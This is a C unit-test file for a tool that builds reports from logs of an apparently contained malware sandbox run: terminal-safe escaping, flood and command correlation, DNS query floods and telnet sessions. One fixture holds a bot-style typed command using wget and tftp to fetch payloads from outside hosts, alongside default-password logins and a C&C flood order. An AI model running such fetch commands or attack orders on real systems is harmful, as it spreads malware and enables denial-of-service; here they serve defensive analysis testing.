// SPDX-License-Identifier: GPL-2.0-only
/* The report: hostile text, and facts from a folder of lines. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "facts.h"
#include "report.h"
#include "safe.h"

static char folder[] = "/tmp/report-test-XXXXXX";

static void safe(const char *bytes, size_t len, size_t columns, const char *expected)
{
	char room[SAFE_MAX];

	assert_string_equal(safe_text(bytes, len, columns, room), expected);
}

#define SAFE(bytes, columns, expected) safe(bytes, sizeof(bytes) - 1, columns, expected)

static void test_safe(void **state)
{
	(void)state;
	SAFE("", 10, "");
	SAFE("plain text", 10, "plain text");
	SAFE("plain text", 9, "plain te…");
	SAFE("\033[2J", 20, "\\x1b[2J");
	SAFE("a\0b\n\r\t\x7f", 40, "a\\x00b\\x0a\\x0d\\x09\\x7f");
	SAFE("\xc2\x9b" "2J", 20, "\\x9b2J");			/* CSI in eight bits */
	SAFE("\xe2\x80\xae" "x", 20, "\\u{202e}x");		/* text from right to left */
	SAFE("\xc3\xa9\xd0\x96", 20, "\xc3\xa9\xd0\x96");
	SAFE("\xff\xc3", 20, "\\xff\\xc3");
	SAFE("\xc0\x9b\xed\xa0\x80", 60, "\\xc0\\x9b\\xed\\xa0\\x80");	/* no UTF-8 */
	SAFE("C:\\x", 20, "C:\\\\x");
	SAFE("ab\033", 5, "ab…");
}

/* Whatever the bytes: what comes out commands no terminal, and has an end. */
static void test_safe_any(void **state)
{
	unsigned int seed = 1;
	char bytes[400], room[SAFE_MAX];

	(void)state;
	for (int i = 0; i < 2000; i++) {
		for (size_t j = 0; j < sizeof(bytes); j++)
			bytes[j] = (seed = seed * 1103515245 + 12345) >> 16;
		safe_text(bytes, sizeof(bytes), 1 + i % 300, room);
		assert_true(strlen(room) < SAFE_MAX);
		for (const char *c = room; *c; c++)
			assert_true((unsigned char)*c >= 0x20 && *c != 0x7f);
	}
}

static void test_number(void **state)
{
	char room[NUMBER_MAX];

	(void)state;
	assert_string_equal(safe_number(0, room), "0");
	assert_string_equal(safe_number(999, room), "999");
	assert_string_equal(safe_number(1000, room), "1,000");
	assert_string_equal(safe_number(1234567, room), "1,234,567");
	assert_string_equal(safe_number(-123456, room), "-123,456");
	assert_string_equal(safe_number(INT64_MIN, room), "-9,223,372,036,854,775,808");
}

static void write_file(const char *name, const char *text)
{
	char path[128];
	FILE *file;

	snprintf(path, sizeof(path), "%s/%s", folder, name);
	file = fopen(path, "w");
	assert_non_null(file);
	fputs(text, file);
	fclose(file);
}

#define EVENT(type, rest) "{\"timestamp\":\"2026-11-24T18:00:10.000000+0000\",\"event_type\":\"" type \
	"\",\"src_ip\":\"192.168.1.100\",\"dest_ip\":\"172.1.0.2\",\"dest_port\":23,\"contained\":true,\"" \
	type "\":" rest "}\n"
#define FLOW(ip, packets, start, end) "{\"event_type\":\"flow\",\"src_ip\":\"192.168.1.100\",\"dest_ip\":\"" \
	ip "\",\"dest_port\":477,\"proto\":\"UDP\",\"server\":{\"name\":\"sink\"},\"flow\":{" \
	"\"pkts_toserver\":" packets ",\"bytes_toserver\":1,\"pkts_toclient\":0,\"bytes_toclient\":0," \
	"\"start\":\"2026-11-24T18:00:" start "+0000\",\"end\":\"2026-11-24T18:00:" end "+0000\"}}\n"
#define COMMAND EVENT("cnc", "{\"kind\":\"command\",\"command\":{\"vector\":0,\"vector_name\":\"udp\"," \
	"\"duration\":5,\"targets\":[\"1.2.3.0/24\"],\"options\":{}}}")

static json_t *first(json_t *facts, const char *list)
{
	return json_array_get(json_object_get(facts, list), 0);
}

/* A flow is the answer to a command if time, protocol and target fit. */
static void test_command(void **state)
{
	json_t *facts, *seen;

	(void)state;
	write_file("events.jsonl", COMMAND);
	write_file("flows.jsonl", FLOW("1.2.3.4", "5000", "10.500", "12.500")
		   FLOW("1.2.3.255", "5000", "10.500", "12.500")
		   FLOW("1.2.4.1", "7", "10.500", "12.500")	/* another target */
		   FLOW("1.2.3.4", "9", "09.000", "12.500")	/* before the command */
		   FLOW("1.2.3.4", "11", "40.000", "41.000"));	/* long after it */
	facts = report_facts(folder);
	seen = json_object_get(first(facts, "commands"), "seen");
	assert_int_equal(facts_number(seen, "packets"), 10000);
	assert_int_equal(facts_number(seen, "flows"), 2);
	assert_true(json_real_value(json_object_get(seen, "packets_per_second")) == 5000);
	assert_int_equal(json_array_size(json_object_get(facts, "contacts")), 3);
	assert_int_equal(json_array_size(json_object_get(facts, "services")), 1);
	json_decref(facts);
}

static void test_events(void **state)
{
	json_t *facts;

	(void)state;
	write_file("events.jsonl",
		   EVENT("telnet", "{\"kind\":\"login\",\"username\":\"a\\u0000\\u001b\",\"password\":\"b\",\"success\":false}")
		   EVENT("telnet", "{\"kind\":\"login\",\"username\":\"a\\u0000\\u001b\",\"password\":\"b\",\"success\":false}")
		   EVENT("telnet", "{\"kind\":\"login\",\"username\":\"a\",\"password\":\"b\",\"success\":true}")
		   EVENT("report", "{\"kind\":\"closed\"}")
		   EVENT("dns", "{\"rrname\":\"x.test\",\"rrtype\":\"A\",\"answers\":[{\"rdata\":\"1.2.3.4\"}]}")
		   "{\"event_type\":\"telnet\",\"src_ip\":\"1.1.1.1\",\"contained\":false,\"telnet\":{\"kind\":\"login\"}}\n"
		   "{\"event_type\":\"telnet\",\"telnet\":3}\n{\"event_type\":7}\n{}\n"
		   EVENT("telnet", "[]") EVENT("cnc", "{\"kind\":\"command\",\"command\":[]}")
		   "broken\n\n{\"half\":");
	write_file("flows.jsonl", FLOW("1.2.3.4", "1", "10.500", "12.500") "{\"flow\":1}\n");
	facts = report_facts(folder);
	assert_int_equal(json_array_size(json_object_get(facts, "logins")), 2);
	assert_int_equal(facts_number(first(facts, "logins"), "count"), 2);
	assert_int_equal(json_array_size(json_object_get(facts, "credentials")), 0);
	assert_string_equal(json_string_value(json_array_get(json_object_get(
		first(facts, "contacts"), "names"), 0)), "x.test");
	/* run.json, stats.json, not contained, two broken lines, and one flow without a flow */
	assert_int_equal(json_array_size(json_object_get(facts, "missing")), 5);
	json_decref(facts);
	assert_int_equal(report_keep(folder, stderr), 0);
}

#define FLOOD(id, proto, ip, kind, sources, ports, flags) "{\"event_type\":\"flood\",\"in_iface\":\"tap0\"," \
	"\"src_ip\":\"7.7.7.7\",\"dest_ip\":\"" ip "\",\"src_port\":5,\"dest_port\":80,\"proto\":\"" proto "\",\"flood\":{" \
	"\"id\":" id ",\"kind\":\"" kind "\",\"packets\":5000,\"bytes\":200000,\"peak\":1200,\"duration\":5.0," \
	"\"start\":\"2026-11-24T18:00:11.000000+0000\",\"end\":\"2026-11-24T18:00:16.000000+0000\"," \
	"\"sources\":" sources ",\"destinations\":1,\"src_ports\":" ports ",\"dest_ports\":1,\"lengths\":1," \
	"\"length_min\":40,\"length_max\":40,\"ttl_min\":64,\"ttl_max\":64,\"delivered\":false" flags "}}\n"
#define SYNS ",\"tcp_flags\":{\"syn\":5000,\"ack\":0,\"fin\":0,\"rst\":0,\"psh\":0,\"urg\":0},\"samples\":[\"45\",\"zz\",7]"

static json_t *attack_on(json_t *facts, const char *address)
{
	json_t *attack;
	size_t i;

	json_array_foreach(json_object_get(facts, "attacks"), i, attack)
		if (!strcmp(facts_string(attack, "dest_ip"), address))
			return attack;
	return NULL;
}

/* The kernel's records become attacks, tied to the order that they answer. */
static void test_floods(void **state)
{
	json_t *facts, *attack;

	(void)state;
	write_file("events.jsonl", COMMAND "{\"event_type\":\"http\",\"proto\":\"TCP\",\"src_ip\":\"192.168.1.100\",\"http\":{}}\n");
	write_file("flows.jsonl", "");
	write_file("floods.jsonl", FLOOD("1", "TCP", "1.2.3.9", "destination", "900", "4000", SYNS)
		   FLOOD("2", "UDP", "1.2.3.8", "destination", "1", "4000", "")
		   FLOOD("2", "UDP", "1.2.3.8", "destination", "1", "4000", "")	/* its last state */
		   FLOOD("3", "UDP", "9.9.9.9", "destination", "1", "1", "")
		   FLOOD("4", "TCP", "8.8.8.8", "scan", "1", "1", SYNS)
		   FLOOD("5", "89", "9.9.9.1", "destination", "1", "0", "") "{\"flood\":[]}\n");
	facts = report_facts(folder);
	assert_int_equal(facts_number(facts, "floods"), 5);
	assert_int_equal(json_array_size(json_object_get(facts, "attacks")), 5);
	attack = attack_on(facts, "1.2.3.9");
	assert_string_equal(facts_string(attack, "attack"), "syn");
	assert_true(json_is_true(json_object_get(attack, "forged")));
	assert_int_equal(facts_number(attack, "packets"), 5000);
	assert_true(facts_real(attack, "rate") == 1000);
	/* ordered was UDP on 1.2.3.0/24 */
	assert_null(json_object_get(attack, "command"));
	attack = attack_on(facts, "1.2.3.8");
	assert_string_equal(facts_string(attack, "attack"), "udp");
	assert_true(json_is_integer(json_object_get(attack, "command")));
	assert_null(json_object_get(attack, "differs"));
	/* a server knows the guest's address, and it is none of these */
	assert_true(json_is_true(json_object_get(attack, "forged")));
	assert_string_equal(facts_string(attack_on(facts, "9.9.9.9"), "attack"), "udpplain");
	assert_string_equal(facts_string(attack_on(facts, "9.9.9.1"), "attack"), "other");
	assert_int_equal(json_array_size(json_object_get(first(facts, "commands"), "attacks")), 1);
	json_decref(facts);
	write_file("floods.jsonl", "");
}

/* Queries for ever other names of a domain, at some speed; and those for one name again and again. */
static void test_domains(void **state)
{
	char path[128];
	json_t *facts;
	FILE *file;

	(void)state;
	snprintf(path, sizeof(path), "%s/events.jsonl", folder);
	file = fopen(path, "w");
	for (int i = 0; i < 1200; i++)
		fprintf(file, "{\"timestamp\":\"2026-11-24T18:00:%02d.000000+0000\",\"event_type\":\"dns\","
			"\"src_ip\":\"1.1.1.1\",\"dest_ip\":\"8.8.8.8\",\"dns\":{\"rrname\":\"%s%d.%s.example\"}}\n",
			10 + i / 300, i % 2 ? "x" : "same", i % 2 ? i : 0, i % 2 ? "victim" : "other");
	fclose(file);
	facts = report_facts(folder);
	assert_int_equal(json_array_size(json_object_get(facts, "attacks")), 1);
	assert_string_equal(facts_string(first(facts, "attacks"), "domain"), "victim.example");
	assert_int_equal(facts_number(first(facts, "attacks"), "packets"), 600);
	assert_int_equal(facts_number(first(facts, "attacks"), "peak"), 150);
	json_decref(facts);
}

/* A dialogue becomes a session and a step of a case; what is typed is looked through for URLs. */
static void test_sessions(void **state)
{
	json_t *facts, *session, *victim;

	(void)state;
	write_file("events.jsonl",
		   EVENT("telnet", "{\"kind\":\"login\",\"session\":4,\"username\":\"root\",\"password\":\"1\",\"success\":true}")
		   EVENT("telnet", "{\"kind\":\"command\",\"session\":4,\"command\":\"wget http://5.5.5.5/a;tftp -g -l x -r b 6.6.6.6; tftp 7.7.7.7 -r c -g\"}")
		   EVENT("loader", "{\"kind\":\"fetch\",\"tool\":\"wget\",\"url\":\"http://5.5.5.5/a\",\"dest\":\"a\"}")
		   EVENT("report", "{\"address\":\"172.1.0.2\",\"port\":23,\"username\":\"root\",\"password\":\"1\"}"));
	write_file("flows.jsonl", "");
	facts = report_facts(folder);
	assert_string_equal(facts_string(first(facts, "fetches"), "url"), "http://5.5.5.5/a");
	assert_string_equal(facts_string(first(facts, "fetches"), "tool"), "wget");
	session = first(facts, "sessions");
	assert_int_equal(json_array_size(json_object_get(session, "urls")), 3);
	assert_string_equal(json_string_value(json_array_get(json_object_get(session, "urls"), 0)),
			    "http://5.5.5.5/a");
	assert_string_equal(json_string_value(json_array_get(json_object_get(session, "urls"), 1)),
			    "tftp://6.6.6.6/b");
	assert_string_equal(json_string_value(json_array_get(json_object_get(session, "urls"), 2)),
			    "tftp://7.7.7.7/c");
	victim = json_array_get(json_object_get(first(facts, "cases"), "victims"), 0);
	assert_string_equal(facts_string(victim, "address"), "172.1.0.2");
	assert_string_equal(facts_string(victim, "password"), "1");
	assert_non_null(json_object_get(victim, "reported"));
	assert_int_equal(json_array_size(json_object_get(victim, "downloads")), 3);
	json_decref(facts);
}

static void test_nothing(void **state)
{
	json_t *facts = report_facts("/nonexistent");

	(void)state;
	assert_int_equal(json_array_size(json_object_get(facts, "missing")), 4);
	json_decref(facts);
}

/* A list that a guest could make grow without end is bounded, and what it lost is counted. */
static void test_bounded(void **state)
{
	char path[128];
	json_t *facts;
	FILE *file;

	(void)state;
	snprintf(path, sizeof(path), "%s/events.jsonl", folder);
	file = fopen(path, "w");
	for (int i = 0; i < 12000; i++)
		fprintf(file, "{\"event_type\":\"telnet\",\"telnet\":{\"kind\":\"command\",\"command\":\"%d\"}}\n", i);
	for (int i = 0; i < 300000; i++)
		putc('x', file);
	fclose(file);
	facts = report_facts(folder);
	assert_int_equal(json_array_size(json_object_get(facts, "typed")), 10000);
	json_decref(facts);
}

static void test_time(void **state)
{
	(void)state;
	assert_true(facts_time("1970-01-01T00:00:01.500000+0000") == 1.5);
	assert_true(facts_time("yesterday") == 0);
	assert_true(facts_time("") == 0);
}

static int end(void **state)
{
	static const char *const files[] = {
		"events.jsonl", "flows.jsonl", "floods.jsonl", "run.json", "capture.pcap",
		"report.txt", "report.json", "report.html",
	};
	char path[128];

	(void)state;
	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
		snprintf(path, sizeof(path), "%s/%s", folder, files[i]);
		unlink(path);
	}
	return rmdir(folder);
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_safe),
		cmocka_unit_test(test_safe_any),
		cmocka_unit_test(test_number),
		cmocka_unit_test(test_command),
		cmocka_unit_test(test_events),
		cmocka_unit_test(test_floods),
		cmocka_unit_test(test_domains),
		cmocka_unit_test(test_sessions),
		cmocka_unit_test(test_nothing),
		cmocka_unit_test(test_bounded),
		cmocka_unit_test(test_time),
	};

	if (!mkdtemp(folder))
		return 1;
	return cmocka_run_group_tests_name("report", tests, NULL, end);
}
